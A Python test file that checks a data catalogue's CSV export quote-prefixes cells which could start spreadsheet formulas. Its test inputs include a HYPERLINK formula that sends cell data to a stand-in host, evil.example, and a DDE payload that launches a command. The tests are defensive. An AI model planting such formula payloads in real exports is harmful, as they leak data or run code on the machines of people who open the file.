"""No CSV Passerelle writes can run a formula when opened in a spreadsheet; typed SCDL columns stay typed."""
import csv
import io

import pytest

from passerelle.catalogue import csvcells
from passerelle.catalogue.encoders import scdl
from passerelle.catalogue.findings import Finding, Report
from test_scdl import ORGANISATION, record, resources, validate

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+33 1 23", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_could_start_a_formula_is_quote_prefixed(value):
    assert csvcells.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Arrêts de bus", "", "2024-01-01", "1 000", " =espace d'abord", "'déjà"])
def test_other_cells_are_left_alone(value):
    assert csvcells.neutralise(value) == value


def test_the_scdl_catalogue_neutralises_its_free_text_and_still_validates(tmp_path):
    hostile = record(title=FORMULAS[0], abstract="-2+3 : résumé", place="@Rennes", keywords=["=1+1", "eau"])
    text = scdl.to_csv([hostile], organisation=ORGANISATION, distributions=resources())
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["TITRE"] == "'" + FORMULAS[0] and row["DESCRIPTION"].startswith("'-2+3")
    assert row["COUV_SPAT_NOM"] == "'@Rennes" and row["MOTS_CLES"].startswith("'")
    assert row["NOMBRE_RESSOURCES"] == "3" and row["DATE_PUBL"] == "2024-02-01"  # typed columns as the schema wants
    report = validate(tmp_path, text)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_only_untyped_text_columns_are_neutralised():
    assert set(scdl.free_text_columns()) == {"COLL_NOM", "ID", "TITRE", "DESCRIPTION", "THEME", "PRODUCTEUR_NOM",
                                              "COUV_SPAT_NOM", "MOTS_CLES", "FORMAT_RESSOURCES"}


def test_the_check_report_csv_neutralises_layer_names_and_messages():
    report = Report([Finding("metadata.required", "error", "=couche()", "-1 champ manquant", "-1 missing field",
                             suggestions=["@suggestion"])])
    row = list(csv.reader(io.StringIO(report.to_csv())))[1]
    assert row[0] == "'=couche()" and row[4] == "'-1 champ manquant" and row[6] == "'@suggestion"
